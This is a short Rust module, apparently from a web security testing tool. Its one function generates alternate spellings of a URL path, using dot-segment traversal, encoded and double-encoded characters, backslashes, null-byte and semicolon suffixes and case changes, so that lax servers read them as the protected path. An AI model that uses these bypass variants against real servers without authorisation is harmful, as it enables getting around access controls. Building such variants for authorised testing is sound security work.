//! Other spellings of a path, each of which some server reads as the path itself.

/// Spellings of `path` that the laxest of servers takes for it.
pub(super) fn of(path: &str) -> Vec<String> {
    let trimmed = path.trim_start_matches('/');
    let (first, rest) = trimmed.split_once('/').map_or((trimmed, ""), |(first, rest)| (first, rest));
    let last = path.rfind('/').map_or((path, ""), |at| path.split_at(at));
    let escaped = |text: &str| text.bytes().map(|byte| format!("%{byte:02x}")).collect::<String>();
    let mut spellings = vec![
        format!("/{path}"),
        format!("/.{path}"),
        format!("/x/..{path}"),
        format!("/x/%2e%2e{path}"),
        format!("/x/..;{path}"),
        format!("/x\\..{path}"),
        format!("{path}/"),
        format!("{path}//"),
        format!("{path}/."),
        format!("{path};a=b"),
        format!("{path}%00"),
        format!("{path}%20"),
        format!("{path}%23"),
        format!("{path}%3f"),
        format!("/%2e{path}"),
        path.to_ascii_uppercase(),
        format!("{}%2f{}", last.0, last.1.trim_start_matches('/')),
        format!("{}%5c{}", last.0, last.1.trim_start_matches('/')),
        format!("{}\\{}", last.0, last.1.trim_start_matches('/')),
        format!("http://localhost{path}"),
    ];
    if !first.is_empty() {
        spellings.push(format!("/{}{}{rest}", escaped(first), if rest.is_empty() { "" } else { "/" }));
        let twice = escaped(first).replace('%', "%25");
        spellings.push(format!("/{twice}{}{rest}", if rest.is_empty() { "" } else { "/" }));
    }
    spellings.retain(|spelling| spelling != path);
    spellings
}
